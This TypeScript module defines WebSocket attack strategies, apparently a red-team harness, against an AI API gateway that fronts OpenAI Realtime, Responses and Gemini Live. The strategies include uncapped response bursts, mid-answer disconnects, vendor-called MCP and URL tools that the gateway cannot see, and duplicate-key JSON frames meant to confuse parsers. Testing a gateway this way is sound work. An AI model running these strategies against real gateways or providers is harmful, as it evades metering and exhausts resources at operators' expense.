import { setTimeout as sleep } from 'node:timers/promises'
import { WebSocket } from 'ws'
import type { Attacker } from '../attacker.ts'
import { SPEECH_PREFIX } from '../vendor/sockets.ts'
import { buildRareText } from './strategy.ts'
import type { Strategy } from './strategy.ts'

interface SocketLine {
  say(event: object): void
  write(text: string): void
  /** Number of received events of a kind. */
  heard(kind: string): number
  readonly isOpen: () => boolean
  close(): void
}

const ERROR = '"error"'

/** Opens a socket to one of the nodes; undefined if it was refused. */
async function connectToNode(attacker: Attacker, path: string): Promise<SocketLine | undefined> {
  const node = attacker.nodes[attacker.counts.asked++ % attacker.nodes.length]!
  const headers = { 'authorization': `Bearer ${attacker.key}`, 'user-agent': `attack:${attacker.name}`, 'x-stainless-helper': `attack:${attacker.name}` }
  const socket = new WebSocket(`${node.replace('http', 'ws')}${path}`, { headers, handshakeTimeout: 20_000 })
  const heard: string[] = []
  socket.on('message', (data: Buffer) => heard.push(data.toString('latin1', 0, 400)))
  const isThere = await new Promise<boolean>((done) => {
    socket.on('open', () => done(true))
    socket.on('error', () => done(false))
    socket.on('unexpected-response', () => done(false))
  })
  attacker.counts[isThere ? 'served' : 'refused']++
  if (!isThere) return undefined
  const write = (text: string): void => {
    if (socket.readyState === socket.OPEN) socket.send(text)
  }
  return {
    write,
    say: (event) => write(JSON.stringify(event)),
    heard: (kind) => heard.filter((text) => text.includes(kind)).length,
    isOpen: () => socket.readyState === socket.OPEN,
    close: () => socket.terminate(),
  }
}

/** Waits for the next event of a kind, an error, or the end of the connection, but no longer than a few seconds. */
async function waitForEvent(line: SocketLine, kind: string, before: number): Promise<void> {
  const errors = line.heard(ERROR)
  for (let waited = 0; waited < 3_000 && line.isOpen() && line.heard(kind) <= before && line.heard(ERROR) === errors; waited += 10) await sleep(10)
}

/** Lets all waiting attackers continue at the same moment. */
const waitForSharedMoment = (): Promise<void> => sleep(2_000 - (Date.now() % 2_000))

const repeatSessions = (path: string, atOnce: number, talk: (line: SocketLine, attacker: Attacker, n: number) => Promise<void>): Strategy['run'] => {
  return async (attacker) =>
    attacker.loop(atOnce, async (n) => {
      const line = await connectToNode(attacker, path)
      if (line === undefined) return { status: 402, text: '', left: false }
      await talk(line, attacker, n)
      line.close()
    })
}

const LIVE = '/ws/google.ai.generativelanguage.v1beta.GenerativeService.BidiGenerateContent'
/** Opens Gemini Live sessions; `more` is added to the system instruction after the attacker's name. */
const repeatLiveSessions = (atOnce: number, talk: (line: SocketLine, n: number) => Promise<void>, more = ''): Strategy['run'] =>
  repeatSessions(LIVE, atOnce, async (line, attacker, n) => {
    const parts = [{ text: `attack:${attacker.name} ${more}` }]
    line.say({ setup: { model: 'models/gemini-2.5-flash-native-audio-preview-12-2025', systemInstruction: { parts } } })
    await waitForEvent(line, 'setupComplete', 0)
    await talk(line, n)
  })

/** A tool server of the attacker, which the vendor calls. */
const MCP = { type: 'mcp', server_label: 'mine', server_url: 'https://example.com/mcp', require_approval: 'never' }
const SPEECH = 'A'.repeat(64_000)

/** Strategies over WebSocket sessions. */
export const SOCKET_STRATEGIES: readonly Strategy[] = [
  {
    name: 'realtime',
    tries: 'sessions that answer without a cap, each answer more expensive than the last',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1-mini', 4, async (line) => {
      for (let turn = 0; turn < 5 && line.isOpen(); turn++) {
        const before = line.heard('response.done')
        line.say({ type: 'input_audio_buffer.append', audio: SPEECH })
        line.say({ type: 'response.create' })
        await waitForEvent(line, 'response.done', before)
      }
    }),
  },
  {
    name: 'realtime-at-once',
    tries: 'twenty answers asked for in one breath, then gone',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1', 3, async (line, _attacker, n) => {
      line.say({ type: 'session.update', session: { type: 'realtime', max_output_tokens: 1 } })
      for (let answer = 0; answer < 20; answer++)
        line.say({ type: 'response.create', response: { max_output_tokens: n % 2 ? 'inf' : 4_096, conversation: 'none', input: [] } })
      await waitForEvent(line, 'response.created', n % 3)
    }),
  },
  {
    name: 'realtime-heard',
    tries: 'speech that is answered unasked, with no client left to receive it',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1-mini', 4, async (line, _attacker, n) => {
      await waitForEvent(line, 'session.created', 0)
      line.say({ type: 'input_audio_buffer.append', audio: SPEECH_PREFIX + SPEECH })
      if (n % 2) line.write('{"type":"nonsense"}')
      await sleep(10 * (n % 8))
    }),
  },
  {
    name: 'realtime-heard-often',
    tries: 'twenty utterances in one breath, each answered',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1-mini', 3, async (line, _attacker, n) => {
      await waitForEvent(line, 'session.created', 0)
      for (let utterance = 0; utterance < 20; utterance++) line.say({ type: 'input_audio_buffer.append', audio: SPEECH_PREFIX + SPEECH })
      await (n % 2 ? waitForEvent(line, 'response.done', 2) : sleep(200))
    }),
  },
  {
    name: 'realtime-both',
    tries: 'an answer requested next to one that speech brings, in both orders, then a disconnect',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1-mini', 4, async (line, _attacker, n) => {
      await waitForEvent(line, 'session.created', 0)
      const heard = () => line.say({ type: 'input_audio_buffer.append', audio: SPEECH_PREFIX + SPEECH })
      const asked = () => line.say({ type: 'response.create' })
      for (const act of n % 2 ? [asked, heard, asked] : [heard, asked, heard]) {
        act()
        await sleep(30 * (n % 4))
      }
      await (n % 3 ? waitForEvent(line, 'response.created', 0) : sleep(1_600))
    }),
  },
  {
    name: 'realtime-refused',
    tries: 'an answer asked for beside an event that is refused, then gone',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1-mini', 4, async (line) => {
      await waitForEvent(line, 'session.created', 0)
      line.say({ type: 'nonsense' })
      line.say({ type: 'response.create' })
      await waitForEvent(line, ERROR, 0)
    }),
  },
  {
    name: 'realtime-mcp',
    tries: 'tiny answers whose input a server of tools has filled, of which the gateway saw nothing',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1', 30, async (line, _attacker, n) => {
      await waitForEvent(line, 'session.created', 0)
      line.say({ type: 'session.update', session: { type: 'realtime', max_output_tokens: 1, ...(n % 2 ? { tools: [MCP] } : {}) } })
      const ask = async (): Promise<void> => {
        const before = line.heard('response.done')
        line.say({ type: 'response.create', response: { max_output_tokens: 1, ...(n % 2 ? {} : { tools: [MCP] }) } })
        await waitForEvent(line, 'response.done', before)
      }
      await ask()
      await waitForSharedMoment()
      await ask()
    }),
  },
  {
    name: 'live',
    tries: 'the same at Gemini Live',
    run: repeatLiveSessions(4, async (line) => {
      for (let turn = 0; turn < 5 && line.isOpen(); turn++) {
        const before = line.heard('turnComplete')
        line.say({ realtimeInput: { audio: { mimeType: 'audio/pcm;rate=16000', data: SPEECH } } })
        line.say({ clientContent: { turns: [{ role: 'user', parts: [{ text: 'hello' }] }], turnComplete: true } })
        await waitForEvent(line, 'turnComplete', before)
      }
    }),
  },
  {
    name: 'live-at-once',
    tries: 'ten turns in one breath, then gone',
    run: repeatLiveSessions(
      3,
      async (line) => {
        for (let turn = 0; turn < 10; turn++) line.say({ clientContent: { turns: [{ role: 'user', parts: [{ text: 'hello' }] }], turnComplete: true } })
        await waitForEvent(line, 'turnComplete', 1)
      },
      buildRareText(20_000),
    ),
  },
  {
    name: 'live-heard',
    tries: 'the same as speech and as text that is answered when it pleases',
    run: repeatLiveSessions(4, async (line, n) => {
      line.say({ realtimeInput: n % 2 ? { text: 'hello' } : { audio: { mimeType: 'audio/pcm;rate=16000', data: SPEECH_PREFIX + SPEECH } } })
      await sleep(10 * (n % 8))
    }),
  },
  {
    name: 'live-heard-often',
    tries: 'ten sentences and ten utterances in one breath',
    run: repeatLiveSessions(3, async (line, n) => {
      for (let said = 0; said < 20; said++)
        line.say({ realtimeInput: said % 2 ? { text: 'hello' } : { audio: { data: SPEECH_PREFIX + SPEECH, mimeType: 'audio/pcm;rate=16000' } } })
      await (n % 2 ? waitForEvent(line, 'turnComplete', 2) : sleep(200))
    }),
  },
  {
    name: 'live-both',
    tries: 'the same: a turn requested next to speech and text that are answered at any time',
    run: repeatLiveSessions(4, async (line, n) => {
      const heard = () => line.say({ realtimeInput: n % 3 ? { audio: { mimeType: 'audio/pcm;rate=16000', data: SPEECH_PREFIX + SPEECH } } : { text: 'hello' } })
      const asked = () => line.say({ clientContent: { turns: [{ role: 'user', parts: [{ text: 'hello' }] }], turnComplete: true } })
      for (const act of n % 2 ? [asked, heard, asked] : [heard, asked, heard]) {
        act()
        await sleep(30 * (n % 4))
      }
      await (n % 3 ? waitForEvent(line, 'turnComplete', 0) : sleep(1_600))
    }),
  },
  {
    name: 'live-tools',
    tries: 'the same with pages and servers that Google reads',
    run: repeatSessions(LIVE, 30, async (line, attacker, n) => {
      const tools = [n % 2 ? { urlContext: {} } : { mcpServers: [{ name: 'mine', streamableHttpTransport: { url: 'https://example.com/mcp' } }] }]
      const systemInstruction = { parts: [{ text: `attack:${attacker.name}` }] }
      const generationConfig = { maxOutputTokens: 1 }
      line.say({ setup: { model: 'models/gemini-2.5-flash-native-audio-preview-12-2025', systemInstruction, generationConfig, tools } })
      const ask = async (): Promise<void> => {
        const before = line.heard('turnComplete')
        line.say({ clientContent: { turns: [{ role: 'user', parts: [{ text: 'hello' }] }], turnComplete: true } })
        await waitForEvent(line, 'turnComplete', before)
      }
      await ask()
      await waitForSharedMoment()
      await ask()
    }),
  },
  {
    name: 'realtime-disguised',
    tries: 'answers asked for in frames whose type one parser reads one way, and another another',
    run: repeatSessions('/v1/realtime?model=gpt-realtime-2.1', 3, async (line) => {
      for (let answer = 0; answer < 10; answer++)
        line.write(answer % 2 ? '{"type":"input_audio_buffer.clear","type":"response.create"}' : '{"type":"response\\u002ecreate"}')
      await waitForEvent(line, 'response.done', 1)
    }),
  },
  {
    name: 'responses-socket',
    tries: 'turns of Responses without a cap, with documents behind URLs, left in the middle',
    run: repeatSessions('/v1/responses', 6, async (line, attacker, n) => {
      for (let turn = 0; turn < 3 && line.isOpen(); turn++) {
        const before = line.heard('response.completed')
        const input = n % 2 ? 'hello' : [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://example.com/a.pdf' }] }]
        line.say({ type: 'response.create', model: 'gpt-6-luna', input, store: false, metadata: { who: `attack:${attacker.name}` } })
        await waitForEvent(line, n % 3 ? 'response.completed' : 'response.created', before)
      }
    }),
  },
]
